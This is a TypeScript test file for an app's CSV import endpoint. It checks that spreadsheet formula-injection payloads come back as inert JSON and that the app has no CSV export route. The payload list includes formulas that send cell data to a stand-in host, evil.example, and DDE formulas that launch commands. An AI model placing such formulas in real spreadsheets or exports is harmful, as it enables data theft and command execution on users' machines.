import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { multipartFile } from '../src/modules/source-parser/source-parser-test-kit.ts';
import { buildTestApp, type TestContext } from '../test/build-test-app.ts';
import { createUser, loginAs } from '../test/factories.ts';

/**
 * CSV formula injection matters where an app writes CSV that a spreadsheet opens: a cell starting with = + - @ (or a
 * tab/CR before one) runs as a formula. Ollida only reads CSV (`POST /api/parse-csv`, a list of supplier URLs) and
 * answers JSON; these tests pin both facts, so an export added later has to come with its own neutralising test.
 */

let ctx: TestContext;
let token: string;

beforeAll(async () => {
  ctx = await buildTestApp();
  token = await loginAs(ctx, (await createUser(ctx)).id);
});
afterAll(() => ctx.close());

const formulas = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"쿠폰 받기")',
  "+cmd|'/c calc'!A0",
  '@SUM(1)',
  '-1+1',
  '=1+1',
  '\t=1+1',
  "=cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
];

const csvCell = (value: string) => `"${value.replaceAll('"', '""')}"`;

describe('CSV formula payloads', () => {
  it('reads formula cells back as inert JSON text, unchanged, never as CSV', async () => {
    const rows = formulas.map((formula, index) => [formula, `https://shop.example/p/${index}`]);
    const csv = ['상품명,URL', ...rows.map((row) => row.map(csvCell).join(','))].join('\r\n');
    const form = multipartFile('formulas.csv', Buffer.from(csv));
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/parse-csv',
      headers: { ...form.headers, authorization: `Bearer ${token}` },
      payload: form.payload,
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    // Cells are trimmed (so the tab before "=1+1" goes) but otherwise kept: the import neither runs nor rewrites them.
    expect(response.json()).toEqual({
      headers: ['상품명', 'URL'],
      rows: rows.map(([formula, url]) => [formula?.trim(), url]),
    });
  });

  it('has no CSV (or spreadsheet) export anywhere: the only CSV route is the import', () => {
    const routes = ctx.app.printRoutes({ commonPrefix: false });
    const csvLike = routes.split('\n').filter((line) => /csv|xlsx|export/i.test(line));
    expect(csvLike.map((line) => line.replace(/[│├└─\s]+/g, ' ').trim())).toEqual(['/api/parse-csv (POST)']);
  });
});
